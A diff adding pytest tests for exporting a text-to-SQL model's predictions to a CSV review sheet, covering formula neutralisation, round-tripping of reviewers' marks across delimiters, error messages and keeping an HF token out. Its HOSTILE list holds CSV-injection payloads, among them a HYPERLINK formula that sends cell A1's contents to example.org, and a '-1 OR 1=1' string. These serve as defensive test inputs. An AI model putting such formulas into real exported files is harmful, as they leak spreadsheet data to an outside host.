@@ -1,0 +1,96 @@
+"""Predictions for people to mark: what is written can be opened in a spreadsheet without harm, and comes back as it was."""
+
+import csv
+import io
+import json
+
+import pytest
+
+from helpers.errors import UserError
+from helpers.results import Run
+from helpers.review import read_review, write_review
+
+HOSTILE = [
+    '=HYPERLINK("http://example.org?" & A1, "SELECT")', "+1", "-1 OR 1=1", "@SUM(A1:A9)", "\t=1+1", "  =1", "'=1", "'quoted'",
+    'SELECT "a;b", \'c,d\'\nFROM t', "SELECT name -- Ünïcode 日本語",
+]  # fmt: skip
+
+
+def finished_run(folder, predictions=HOSTILE):
+    run = Run(folder, {"stem": "06_llama_qlora", "parameters": {}})
+    run.write_lines("predictions.jsonl", [
+        {"index": i, "db_id": "shop", "exact": False, "execution": i % 2 == 0, "test_suite": None if i == 9 else i % 2 == 0, "valid": True,
+         "reason": "" if i % 2 == 0 else "-wrong rows", "question": f"Question {i}?", "sql": "SELECT 1", "base": "SELECT", "tuned": sql}
+        for i, sql in enumerate(predictions)
+    ])  # fmt: skip
+    run.finish({"headline": {"measure": "test_suite", "name": "test suite accuracy"}, "models": ["base", "tuned"]})
+    return run
+
+
+def cells(path, **options):
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""), **options))
+
+
+def mark(path, marks, **options):
+    """Mark rows as a person does in a spreadsheet and save the file, with another separator if asked."""
+    rows = cells(path)
+    for number, said in marks.items():
+        rows[number]["mark"] = said
+    with open(path, "w", encoding="utf-8-sig", newline="") as file:
+        writer = csv.DictWriter(file, list(rows[0]), **options)
+        writer.writeheader()
+        writer.writerows(rows)
+
+
+def test_no_cell_begins_as_a_formula_and_every_cell_comes_back(tmp_path):
+    path = write_review(finished_run(tmp_path))
+    rows = cells(path)
+    assert not [cell for row in rows for cell in row.values() if cell.strip().startswith(("=", "+", "-", "@"))]
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf"), "Excel takes a file without it for another encoding"
+    mark(path, {0: "right"})
+    write_review(finished_run(tmp_path))
+    assert cells(path)[0]["mark"] == "right", "marks survive a second call, also of a guarded prediction"
+    assert len(rows) == len(HOSTILE)
+
+
+def test_a_row_has_question_schema_both_queries_verdicts_reason_and_a_place_to_mark(tmp_path):
+    run = finished_run(tmp_path)
+    row = cells(write_review(run))[1]
+    assert list(row) == "row question schema gold prediction verdict exact execution test_suite valid reason mark".split()
+    assert (row["schema"], row["verdict"], row["exact"], row["valid"], row["mark"]) == ("shop", "wrong", "wrong", "right", "")
+    schemas = [f"CREATE TABLE t{i} (a)" for i in range(len(HOSTILE))]
+    row = cells(write_review(run, "base", schemas))[2]
+    assert (row["schema"], row["prediction"], row["verdict"]) == ("CREATE TABLE t2 (a)", "SELECT", "right")
+
+
+@pytest.mark.parametrize("options", [{}, {"delimiter": ";"}, {"delimiter": "\t"}, {"lineterminator": "\r\n"}])
+def test_the_agreement_of_people_and_verdict_is_read_back_also_from_what_a_spreadsheet_saved(tmp_path, options):
+    path = write_review(finished_run(tmp_path))
+    assert "0 of 10 rows of review.csv are marked" in read_review(path)["sentence"]
+    mark(path, {0: "right", 1: "Wrong", 2: "W", 3: "TRUE", 4: "1", 9: "right"}, **options)  # row 9 has no verdict
+    found = read_review(path)
+    assert (found["rows"], found["marked"], found["agreement"]["n"], found["agreement"]["rate"]) == (10, 6, 5, 0.6)
+    assert (found["too strict"], found["too kind"]) == ([3], [2])
+    assert found["sentence"].startswith("people and verdict agree on 60.0% [")
+
+
+def test_what_cannot_be_read_as_a_review_gets_one_sentence(tmp_path):
+    path = write_review(finished_run(tmp_path))
+    mark(path, {4: "maybe"})
+    with pytest.raises(UserError, match="Row 5 of review.csv is marked 'maybe': expected right or wrong"):
+        read_review(path)
+    bad = {b"a,b\n1,2\n": "not what write_review wrote", b"": "lacks rows", "é".encode("latin-1"): "not UTF-8 any more"}
+    for content, words in bad.items():
+        path.write_bytes(content)
+        with pytest.raises(UserError, match=words):
+            read_review(path)
+    with pytest.raises(UserError, match="gone.csv cannot be opened"):
+        read_review(tmp_path / "gone.csv")
+
+
+def test_no_secret_gets_into_a_review(tmp_path, monkeypatch):
+    token = "hf_" + "Xy7" * 12
+    monkeypatch.setenv("HF_TOKEN", token)
+    text = write_review(finished_run(tmp_path), schemas=[token] * len(HOSTILE)).read_text()
+    assert token not in text
+    assert json.loads((tmp_path / "predictions.jsonl").read_text().splitlines()[0])["tuned"] in HOSTILE
